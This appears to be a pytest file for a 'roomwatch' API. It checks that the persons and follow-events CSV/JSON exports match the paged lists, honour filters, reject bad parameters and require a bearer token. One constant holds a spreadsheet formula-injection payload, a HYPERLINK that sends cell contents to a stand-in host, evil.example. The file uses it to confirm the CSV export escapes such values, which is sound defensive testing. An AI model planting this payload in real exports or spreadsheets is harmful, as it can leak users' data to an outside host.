"""``GET /exports/persons`` and ``GET /exports/follow-events``: every row of the list they
mirror, the same filters and order, CSV that a csv reader reads back, JSON one array."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import psycopg
import pytest
from litestar import Litestar
from litestar.testing import TestClient

from storage.follow_state import reconcile
from storage.person_list import PersonSummary
from storage.writers import write_affiliate_poll
from tests.factories import room

Client = TestClient[Litestar]
T0 = dt.datetime.now(dt.UTC).replace(microsecond=0) - dt.timedelta(days=2)
T1 = T0 + dt.timedelta(days=1)
RECENT = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1)
COUNT = 230  # more than one page of the list (at most 200)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
AWKWARD = 'Comma, "quotes"\nand a line break'


def _name(n: int) -> str:
    return f"person_{n:03d}"


@pytest.fixture
def people(conn: psycopg.Connection[Any]) -> None:
    """COUNT persons: every third tagged "tease", every fifth followed (then a follow and an
    unfollow after the baseline), every seventh watched, one formula-like display name."""
    rooms = [
        room(
            _name(n),
            num_followers=1000 + (n * 37) % 500,  # ties too: paging must break them the same way
            tags=["tease"] if n % 3 == 0 else ["other"],
            display_name=FORMULA if n == 4 else AWKWARD if n == 5 else f"Person {n}",
            room_subject=f"-subject {n}",
        )
        for n in range(COUNT)
    ]
    write_affiliate_poll(conn, rooms, observed_at=RECENT)
    followed = {_name(n) for n in range(COUNT) if n % 5 == 0}
    reconcile(conn, "following", followed, account="owner", checked_at=T0, source="followed_cams")
    changed = (followed - {_name(0)}) | {_name(1)}
    reconcile(conn, "following", changed, account="owner", checked_at=T1, source="followed_cams")
    watched = [_name(n) for n in range(COUNT) if n % 7 == 0]
    conn.execute("UPDATE persons SET watch = true WHERE username = ANY(%s)", [watched])


def _list(client: Client, **params: Any) -> list[dict[str, Any]]:
    """Every row of GET /persons under ``params``, page after page."""
    items: list[dict[str, Any]] = []
    query = {"limit": 200, **params}
    while True:
        response = client.get("/api/v1/persons", params=query)
        assert response.status_code == 200, response.text
        page = response.json()
        items += page["items"]
        if page["next_cursor"] is None:
            return items
        query["cursor"] = page["next_cursor"]


def _export(client: Client, path: str, export_format: str, **params: Any) -> Any:
    response = client.get(f"/api/v1/exports/{path}", params={"format": export_format, **params})
    assert response.status_code == 200, response.text
    return response


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


FILTERS = [
    {},
    {"tag": "tease"},
    {"following": "true"},
    {"following": "false"},
    {"watch": "true"},
    {"watch": "false", "tag": "TEASE"},
    {"following": "true", "watch": "true"},
    {"tag": "tease", "sort": "viewers"},
    {"sort": "last_seen"},
    {"q": "person_01"},
    {"tag": "nobody-has-it"},
]


@pytest.mark.usefixtures("people")
@pytest.mark.parametrize("params", FILTERS)
def test_json_export_is_the_whole_list(client: Client, params: dict[str, str]) -> None:
    listed = _list(client, **params)
    exported = _export(client, "persons", "json", **params).json()
    assert exported == listed  # every row, the same order, the same fields and values
    if not params:
        assert len(exported) == COUNT


@pytest.mark.usefixtures("people")
@pytest.mark.parametrize("params", FILTERS)
def test_csv_export_is_the_whole_list(client: Client, params: dict[str, str]) -> None:
    listed = _list(client, **params)
    response = _export(client, "persons", "csv", **params)
    assert response.headers["content-type"].startswith("text/csv")
    text = response.text
    assert text.splitlines()[0].split(",") == list(PersonSummary.__struct_fields__)
    rows = _csv_rows(text)
    assert [r["username"] for r in rows] == [item["username"] for item in listed]
    assert [r["person_id"] for r in rows] == [str(item["person_id"]) for item in listed]


@pytest.mark.usefixtures("people")
def test_filters_apply(client: Client) -> None:
    tease = _csv_rows(_export(client, "persons", "csv", tag="tease").text)
    assert len(tease) == len([n for n in range(COUNT) if n % 3 == 0])
    assert all(r["tags"] == "tease" for r in tease)
    following = _export(client, "persons", "json", following="true").json()
    expected = {_name(n) for n in range(1, COUNT) if n % 5 == 0} | {_name(1)}
    assert {r["username"] for r in following} == expected
    watched = _export(client, "persons", "json", watch="true").json()
    assert {r["username"] for r in watched} == {_name(n) for n in range(COUNT) if n % 7 == 0}
    assert all(r["watch"] for r in watched)


@pytest.mark.usefixtures("people")
def test_rows_carry_follow_durations(client: Client) -> None:
    rows = {r["username"]: r for r in _csv_rows(_export(client, "persons", "csv").text)}
    assert rows[_name(1)]["following_since"] == T1.isoformat()  # followed after the baseline
    assert rows[_name(0)]["unfollowed_at"] == T1.isoformat()
    assert rows[_name(0)]["following_since"] == ""
    assert rows[_name(5)]["following"] == "true"
    assert rows[_name(5)]["following_since"] == ""  # followed since before the baseline
    by_json = {r["username"]: r for r in _export(client, "persons", "json").json()}
    assert dt.datetime.fromisoformat(by_json[_name(1)]["following_since"]) == T1


@pytest.mark.usefixtures("people")
def test_csv_cells(client: Client) -> None:
    rows = {r["username"]: r for r in _csv_rows(_export(client, "persons", "csv").text)}
    assert rows[_name(4)]["display_name"] == "'" + FORMULA  # shown as text, never run
    assert rows[_name(5)]["display_name"] == AWKWARD  # quoted, and read back whole
    assert rows[_name(6)]["display_name"] == "Person 6"
    assert rows[_name(6)]["followers"] == str(1000 + (6 * 37) % 500)
    assert rows[_name(7)]["watch"] == "true"
    assert rows[_name(8)]["watch"] == "false"
    assert rows[_name(8)]["rank"] == ""  # null
    json_rows = {r["username"]: r for r in _export(client, "persons", "json").json()}
    assert json_rows[_name(4)]["display_name"] == FORMULA  # JSON carries the text as it is


@pytest.mark.usefixtures("people")
def test_attachment(client: Client) -> None:
    for export_format in ("csv", "json"):
        response = _export(client, "persons", export_format)
        disposition = response.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="roomwatch-persons-')
        assert disposition.endswith(f'.{export_format}"')
    assert _export(client, "persons", "json").headers["content-type"] == "application/json"


def test_empty_exports(client: Client) -> None:
    assert _export(client, "persons", "json").json() == []
    assert (
        _export(client, "persons", "csv").text == ",".join(PersonSummary.__struct_fields__) + "\r\n"
    )
    assert _export(client, "follow-events", "json").json() == []


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("persons", {"format": "xlsx"}, "format"),
        ("persons", {}, "format"),
        ("persons", {"format": "csv", "sort": "nonsense"}, "sort"),
        ("persons", {"format": "json", "following": "maybe"}, "following"),
        ("persons", {"format": "json", "watch": "maybe"}, "watch"),
        ("follow-events", {"format": "CSV!"}, "format"),
        ("follow-events", {}, "format"),
        ("follow-events", {"format": "json", "kind": "nonsense"}, "kind"),
        ("follow-events", {"format": "json", "since": "yesterday"}, "since"),
    ],
)
def test_bad_parameters(client: Client, path: str, params: dict[str, str], field: str) -> None:
    response = client.get(f"/api/v1/exports/{path}", params=params)
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["field"] == field


@pytest.mark.parametrize("path", ["persons", "follow-events"])
def test_bearer_required(app: Litestar, path: str) -> None:
    with TestClient(app) as anonymous:
        response = anonymous.get(f"/api/v1/exports/{path}", params={"format": "csv"})
        assert response.status_code == 401
        wrong = anonymous.get(
            f"/api/v1/exports/{path}",
            params={"format": "csv"},
            headers={"Authorization": "Bearer wrong"},
        )
        assert wrong.status_code == 401


@pytest.mark.usefixtures("people")
@pytest.mark.parametrize(
    "params",
    [
        {},
        {"kind": "followed"},
        {"kind": "unfollowed"},
        {"since": T1.isoformat()},
        {"kind": "lost_follower"},
    ],
)
def test_follow_event_export(client: Client, params: dict[str, str]) -> None:
    listed = client.get("/api/v1/follow-events", params={"limit": 200, **params}).json()["items"]
    assert _export(client, "follow-events", "json", **params).json() == listed
    response = _export(client, "follow-events", "csv", **params)
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="roomwatch-follow-events-'
    )
    rows = _csv_rows(response.text)
    assert [(r["event_id"], r["username"], r["kind"]) for r in rows] == [
        (str(e["event_id"]), e["username"], e["kind"]) for e in listed
    ]
    if not params:
        assert {(r["username"], r["kind"]) for r in rows} == {
            (_name(0), "unfollowed"),
            (_name(1), "followed"),
        }
